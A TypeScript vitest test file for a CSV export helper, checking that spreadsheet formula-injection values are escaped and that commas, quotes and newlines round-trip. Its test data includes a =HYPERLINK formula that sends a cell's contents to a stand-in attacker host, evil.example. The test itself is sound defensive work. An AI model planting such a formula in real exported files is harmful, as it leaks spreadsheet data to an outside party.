import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { cellOfSafe, csvTextOf, safeCellOf } from "./csv-text.ts";

describe("csvTextOf", () => {
  it("never writes =HYPERLINK(…) or other formulas unescaped", () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1)"];
    const text = csvTextOf(["v"], [...evil.map((e) => [e]), ["\tTab"], ["\rCR"]]);
    const cells = Papa.parse<string[]>(text.trim())
      .data.slice(1)
      .map((r) => r[0]!);
    // Written out, not built with the writer's own rule (prefix "'"), so a wrong rule cannot agree.
    expect(cells).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      "'+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\tTab",
      "'\rCR",
    ]);
    expect(text).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
    expect(cells.map(cellOfSafe)).toEqual([...evil, "\tTab", "\rCR"]);
  });

  it("keeps numbers (negative ones too) and quotes commas, quotes and embedded newlines", () => {
    expect(safeCellOf(-5)).toBe("-5");
    expect(safeCellOf(null)).toBe("");
    const text = csvTextOf(["a", "b"], [['Line one\nline "two"', "x,y"]]);
    expect(text).toBe('a,b\r\n"Line one\nline ""two""","x,y"\r\n');
    expect(Papa.parse<string[]>(text.trim()).data[1]).toEqual(['Line one\nline "two"', "x,y"]);
  });
});
